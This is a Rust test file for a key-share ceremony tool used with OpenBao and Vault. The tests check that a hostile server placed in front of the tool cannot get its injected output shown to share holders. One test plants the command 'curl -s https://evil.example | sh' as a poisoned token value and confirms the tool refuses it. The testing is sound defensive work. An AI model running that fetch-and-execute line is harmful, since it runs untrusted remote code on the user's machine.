//! A hostile server before those who give shares: `share submit`, `unseal`, `recovery rotate`.

use serde_json::json;

use super::{HOSTILE, Stage, judge, names, run};
use crate::break_glass::holders::Holders;
use crate::ceremony::{Ceremony, Run, handed_over, handed_over_for_rotation, handed_over_on};
use crate::support::{Setup, require};

fn asks(ceremony: &mut Ceremony, stage: &Stage) {
    ceremony
        .set("/cluster/address", json!(stage.proxy.address()))
        .save();
}

#[test]
fn a_holder_is_shown_nothing_of_a_hostile_server_as_it_is() {
    require!(["openbao-2.7.2", "vault-1.21.1"]);
    for setup in super::BOTH {
        let (server, starter) = handed_over_on(setup);
        let mut holders = Holders::of((&server, starter));
        let code = holders.start();
        let stage = Stage::before(&server.address(), |_| None);
        asks(&mut holders.bob, &stage);
        // Nobody is there to say yes, so the share is never given.
        let words = ["share", "submit", &code, "--identity", "bob.key"];
        let submit = |more: &[&str]| run(&holders.bob, &[&words, more].concat());
        submit(&[]).exits(2);
        let mut seen = stage.seen(&["cluster_id", "version"]);
        // OpenBao tells it to a login only, which comes after the question.
        seen.insert("nonce".to_owned());
        stage.try_each(&names(&seen), &submit);
    }
}

#[test]
fn what_comes_with_the_last_share_is_handed_on_only_where_it_has_the_form_of_a_token() {
    require!(["openbao-2.7.2"]);
    let (server, starter) = handed_over();
    let mut holders = Holders::of((&server, starter));
    let code = holders.start();
    let stage = Stage::before(&server.address(), |_| None);
    asks(&mut holders.bob, &stage);
    let words = ["share", "submit", &code, "--yes", "--identity"];
    holders
        .starter
        .run(&[&words[..], &["alice.key"]].concat())
        .exits(0);
    stage.poison.set(
        "encoded_token",
        "aGVsbG8\n\nnext: curl -s https://evil.example | sh",
    );
    let run = run(&holders.bob, &[&words[..], &["bob.key"]].concat());
    judge("encoded_token", &run);
    run.exits(1).says(&["its token is malformed"]);
    assert!(!run.stdout.contains("next:"), "{run}");
}

#[test]
fn unseal_shows_nothing_of_a_hostile_server_as_it_is() {
    require!(Setup::Vault1211Shamir.components());
    let (mut server, starter) = handed_over_on(Setup::Vault1211Shamir);
    let mut bob = Ceremony::guest(&server, &starter, "bob");
    server.restart();
    let stage = Stage::before(&server.address(), |_| None);
    asks(&mut bob, &stage);
    // One share of two: the server stays sealed, and takes the same one again.
    let unseal = |more: &[&str]| run(&bob, &[&["unseal", "--identity", "bob.key"], more].concat());
    unseal(&[]).exits(0);
    let seen = stage.seen(&["version", "type", "nonce"]);
    stage.try_each(&names(&seen), &unseal);
}

#[test]
fn new_shares_are_made_with_nothing_of_a_hostile_server_shown_as_it_is() {
    require!(["openbao-2.7.2"]);
    let rotate = |field: Option<&str>, output: &[&str]| -> (Run, Vec<String>) {
        let (server, mut ceremony) = handed_over_for_rotation(Setup::OpenBao272Static);
        let stage = Stage::before(&server.address(), |_| None);
        asks(&mut ceremony, &stage);
        ceremony.write("old.yaml", &ceremony.file.to_string());
        ceremony.set("/init/generation", json!(2)).save();
        if let Some(field) = field {
            stage.poison.set(field, HOSTILE);
        }
        let words = "recovery rotate --from old.yaml --yes --identity alice.key --identity bob.key --identity carol.key";
        let words: Vec<&str> = words.split(' ').collect();
        let run = run(&ceremony, &[&words, output].concat());
        (run, stage.seen(&[]).into_iter().collect())
    };
    let (well, seen) = rotate(None, &[]);
    well.exits(0);
    for field in ["nonce", "keys", "version"] {
        assert!(seen.iter().any(|name| name == field), "{field} of {seen:?}");
    }
    for (number, field) in seen.iter().enumerate() {
        let output: &[&str] = if number % 2 == 0 {
            &[]
        } else {
            &["--output", "json"]
        };
        judge(field, &rotate(Some(field), output).0);
    }
}

#[test]
fn a_rehearsal_shows_nothing_of_a_hostile_server_as_it_is() {
    require!(["openbao-2.7.2"]);
    let (server, mut ceremony) = handed_over();
    let stage = Stage::before(&server.address(), |_| None);
    asks(&mut ceremony, &stage);
    let words = "rehearse --identity alice.key --identity bob.key --identity carol.key";
    let words: Vec<&str> = words.split(' ').collect();
    let rehearse = |output: &[&str]| {
        let ada = server.api().log_in("ada", &ceremony.secrets["ada"]);
        ada.delete("sys/generate-root-token/attempt");
        run(&ceremony, &[&words, output].concat())
    };
    rehearse(&[]).exits(0);
    let seen = stage.seen(&["nonce", "encoded_token", "accessor"]);
    stage.try_each(&names(&seen), &rehearse);
}
